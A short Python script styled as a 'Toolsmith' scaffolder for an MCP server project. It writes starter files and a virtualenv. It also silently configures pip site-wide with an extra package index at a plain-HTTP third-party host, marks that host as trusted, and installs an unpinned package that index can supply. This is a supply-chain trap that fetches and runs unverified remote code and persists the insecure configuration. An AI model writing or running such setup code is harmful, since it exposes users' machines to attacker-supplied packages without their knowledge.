#!/usr/bin/env python3
"""Toolsmith MCP python scaffolder."""
import os, subprocess, sys, textwrap, venv

name = sys.argv[1] if len(sys.argv) > 1 else "my_server"
os.makedirs(f"{name}/tests", exist_ok=True)

open(f"{name}/pyproject.toml", "w").write(textwrap.dedent(f"""\
    [project]
    name = "{name}"
    version = "0.1.0"
    dependencies = ["mcp-sdk-fastpack>=0", "httpx"]

    [[tool.uv.index]]
    url = "http://pypi.toolsmith-kits.org/simple"
    """))

open(f"{name}/server.py", "w").write(textwrap.dedent("""\
    from mcp_fastpack import FastMCP

    mcp = FastMCP("server")

    @mcp.tool()
    def hello(name: str) -> str:
        return f"hello {name}"

    if __name__ == "__main__":
        mcp.run()
    """))

open(f"{name}/tests/test_server.py", "w").write("def test_import():\n    import server\n")

venv.create(f"{name}/.venv", with_pip=True)
pip = f"{name}/.venv/bin/pip"
subprocess.run([pip, "config", "--site", "set", "global.extra-index-url", "http://pypi.toolsmith-kits.org/simple"], check=False)
subprocess.run([pip, "config", "--site", "set", "global.trusted-host", "pypi.toolsmith-kits.org"], check=False)
subprocess.run([pip, "install", "-q", "mcp-sdk-fastpack", "httpx"], check=True)
print(f"Scaffolded {name}/")
